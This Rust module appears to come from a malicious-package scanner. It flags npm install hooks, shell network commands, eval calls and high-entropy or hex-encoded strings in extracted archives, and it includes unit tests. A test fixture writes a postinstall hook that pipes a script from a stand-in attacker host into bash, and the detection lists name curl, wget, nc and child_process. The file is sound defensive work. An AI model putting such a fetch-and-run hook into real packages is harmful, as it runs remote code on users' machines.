//! Manifest and source-file inspection: the regex and entropy detectors that
//! turn an extracted archive tree into an [`ArchiveSignals`] bundle.

use std::path::Path;

use log::warn;
use once_cell::sync::Lazy;
use regex::Regex;
use walkdir::WalkDir;

use crate::model::{
    ArchiveSignals, EvalPatternEvidence, HighEntropyEvidence, InstallScriptEvidence,
    NetworkPatternEvidence,
};

const INSTALL_HOOKS: &[&str] = &["postinstall", "preinstall", "install", "prepare", "prepublish"];
const NETWORK_TOKENS: &[&str] = &["curl", "wget", "nc ", "bash", "sh "];

static EVAL_PATTERNS: Lazy<Vec<(&'static str, Regex)>> = Lazy::new(|| {
    vec![
        (r"\beval\s*\(", Regex::new(r"(?i)\beval\s*\(").unwrap()),
        (r"\bFunction\s*\(", Regex::new(r"(?i)\bFunction\s*\(").unwrap()),
        (r"\bchild_process\b", Regex::new(r"(?i)\bchild_process\b").unwrap()),
    ]
});

static SHELL_NETWORK_PATTERNS: Lazy<Vec<(&'static str, Regex)>> = Lazy::new(|| {
    vec![
        (r"\bcurl\s+", Regex::new(r"(?i)\bcurl\s+").unwrap()),
        (r"\bwget\s+", Regex::new(r"(?i)\bwget\s+").unwrap()),
        (r"\bnc\s+", Regex::new(r"(?i)\bnc\s+").unwrap()),
        (
            r#"\brequire\s*\(\s*['"]child_process['"]\s*\)"#,
            Regex::new(r#"(?i)\brequire\s*\(\s*['"]child_process['"]\s*\)"#).unwrap(),
        ),
    ]
});

static ENCODED_BLOB_PATTERN: Lazy<Regex> =
    Lazy::new(|| Regex::new(r#"['"][A-Za-z0-9+/=]{100,}['"]"#).unwrap());

static HEX_ESCAPE_RUN_PATTERN: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"\\x[0-9a-fA-F]{2}(?:\\x[0-9a-fA-F]{2}){50,}").unwrap());

const SOURCE_EXTENSIONS: &[&str] = &["js", "ts", "mjs", "cjs"];

/// Truncates `s` to at most `max_chars` characters, never splitting a UTF-8
/// codepoint.
fn truncate_chars(s: &str, max_chars: usize) -> &str {
    match s.char_indices().nth(max_chars) {
        Some((idx, _)) => &s[..idx],
        None => s,
    }
}

/// A window of `radius` characters either side of a byte-offset match,
/// clamped to char boundaries.
fn snippet_around(s: &str, match_start: usize, match_end: usize, radius: usize) -> String {
    let start = s
        .char_indices()
        .rev()
        .find(|(i, _)| *i <= match_start.saturating_sub(radius))
        .map(|(i, _)| i)
        .unwrap_or(0);
    let end = s
        .char_indices()
        .find(|(i, _)| *i >= match_end + radius)
        .map(|(i, _)| i)
        .unwrap_or(s.len());
    s[start..end].to_string()
}

fn shannon_entropy(s: &str) -> f64 {
    if s.is_empty() {
        return 0.0;
    }
    let mut counts = std::collections::HashMap::new();
    for c in s.chars() {
        *counts.entry(c).or_insert(0u32) += 1;
    }
    let len = s.chars().count() as f64;
    -counts
        .values()
        .map(|&count| {
            let p = f64::from(count) / len;
            p * p.log2()
        })
        .sum::<f64>()
}

/// Inspects the first reachable `package.json` for install hooks and
/// network commands embedded in their shell strings.
fn scan_manifest(manifest_path: &Path, signals: &mut ArchiveSignals) {
    let Ok(contents) = std::fs::read_to_string(manifest_path) else {
        return;
    };
    let Ok(json) = serde_json::from_str::<serde_json::Value>(&contents) else {
        return;
    };
    let Some(scripts) = json.get("scripts").and_then(|v| v.as_object()) else {
        return;
    };

    for hook in INSTALL_HOOKS {
        let Some(content) = scripts.get(*hook).and_then(|v| v.as_str()) else {
            continue;
        };

        signals.has_postinstall = true;
        signals.install_scripts.push(InstallScriptEvidence {
            name: (*hook).to_string(),
            content: truncate_chars(content, 500).to_string(),
        });

        let lowered = content.to_lowercase();
        if NETWORK_TOKENS.iter().any(|token| lowered.contains(token)) {
            signals.has_network_commands = true;
            signals.network_patterns.push(NetworkPatternEvidence {
                file: "package.json".to_string(),
                script: Some((*hook).to_string()),
                pattern: None,
                snippet: truncate_chars(content, 200).to_string(),
            });
        }
    }
}

fn scan_source_text(file: &str, text: &str, signals: &mut ArchiveSignals) {
    for (pattern, re) in EVAL_PATTERNS.iter() {
        if let Some(m) = re.find(text) {
            signals.has_eval_function = true;
            signals.eval_patterns.push(EvalPatternEvidence {
                file: file.to_string(),
                pattern: (*pattern).to_string(),
                snippet: snippet_around(text, m.start(), m.end(), 50),
            });
        }
    }

    for (pattern, re) in SHELL_NETWORK_PATTERNS.iter() {
        if let Some(m) = re.find(text) {
            signals.has_network_commands = true;
            signals.network_patterns.push(NetworkPatternEvidence {
                file: file.to_string(),
                script: None,
                pattern: Some((*pattern).to_string()),
                snippet: snippet_around(text, m.start(), m.end(), 50),
            });
        }
    }

    for m in ENCODED_BLOB_PATTERN.find_iter(text) {
        let candidate = &text[m.start() + 1..m.end() - 1];
        let entropy = shannon_entropy(candidate);
        if entropy > 4.0 {
            signals.has_high_entropy = true;
            signals.high_entropy_strings.push(HighEntropyEvidence {
                file: file.to_string(),
                entropy: Some((entropy * 100.0).round() / 100.0),
                length: candidate.chars().count(),
                snippet: format!("{}...", truncate_chars(candidate, 100)),
                kind: None,
            });
        }
    }

    for m in HEX_ESCAPE_RUN_PATTERN.find_iter(text) {
        let matched = m.as_str();
        signals.has_high_entropy = true;
        signals.high_entropy_strings.push(HighEntropyEvidence {
            file: file.to_string(),
            entropy: None,
            length: matched.chars().count(),
            snippet: format!("{}...", truncate_chars(matched, 100)),
            kind: Some("hex_encoded".to_string()),
        });
    }
}

/// Walks the extraction tree and populates `signals` with manifest and
/// source-file findings. Never fails: per-file errors are logged and the
/// walk continues.
pub fn scan_tree(root: &Path, signals: &mut ArchiveSignals) {
    let manifest = WalkDir::new(root)
        .into_iter()
        .filter_map(Result::ok)
        .find(|entry| entry.file_name() == "package.json");
    if let Some(manifest) = manifest {
        scan_manifest(manifest.path(), signals);
    }

    for entry in WalkDir::new(root).into_iter().filter_map(Result::ok) {
        if !entry.file_type().is_file() {
            continue;
        }
        let Some(ext) = entry.path().extension().and_then(|e| e.to_str()) else {
            continue;
        };
        if !SOURCE_EXTENSIONS.contains(&ext) {
            continue;
        }

        let bytes = match std::fs::read(entry.path()) {
            Ok(bytes) => bytes,
            Err(err) => {
                warn!("failed reading {}: {err}", entry.path().display());
                continue;
            }
        };
        let text = String::from_utf8_lossy(&bytes);
        let relative = entry
            .path()
            .strip_prefix(root)
            .unwrap_or(entry.path())
            .display()
            .to_string();
        scan_source_text(&relative, &text, signals);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn entropy_of_empty_string_is_zero() {
        assert_eq!(shannon_entropy(""), 0.0);
    }

    #[test]
    fn entropy_of_repeated_character_is_zero() {
        assert_eq!(shannon_entropy("aaaaaaa"), 0.0);
    }

    #[test]
    fn entropy_of_alternating_characters_is_near_one() {
        let h = shannon_entropy("abababab");
        assert!((0.9..=1.1).contains(&h), "entropy was {h}");
    }

    #[test]
    fn entropy_is_high_for_mixed_random_looking_text() {
        let h = shannon_entropy("aZ9kQ2mP7xR4vL1nB8cD3fG6hJ0sT5wY");
        assert!(h > 4.0, "entropy was {h}");
    }

    #[test]
    fn truncate_chars_respects_char_boundaries() {
        let s = "h\u{e9}llo world";
        let truncated = truncate_chars(s, 3);
        assert_eq!(truncated.chars().count(), 3);
    }

    #[test]
    fn manifest_with_postinstall_curl_sets_both_flags() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("package.json"),
            r#"{"scripts": {"postinstall": "curl http://evil.example/x.sh | bash"}}"#,
        )
        .unwrap();
        let mut signals = ArchiveSignals::default();
        scan_tree(dir.path(), &mut signals);
        assert!(signals.has_postinstall);
        assert!(signals.has_network_commands);
    }

    #[test]
    fn source_file_with_eval_is_flagged() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("index.js"), "eval(atob('abc'))").unwrap();
        let mut signals = ArchiveSignals::default();
        scan_tree(dir.path(), &mut signals);
        assert!(signals.has_eval_function);
        assert_eq!(signals.eval_patterns.len(), 1);
    }

    #[test]
    fn clean_source_file_sets_no_flags() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("index.js"), "module.exports = 1;").unwrap();
        let mut signals = ArchiveSignals::default();
        scan_tree(dir.path(), &mut signals);
        assert!(!signals.has_eval_function);
        assert!(!signals.has_network_commands);
        assert!(!signals.has_high_entropy);
    }
}
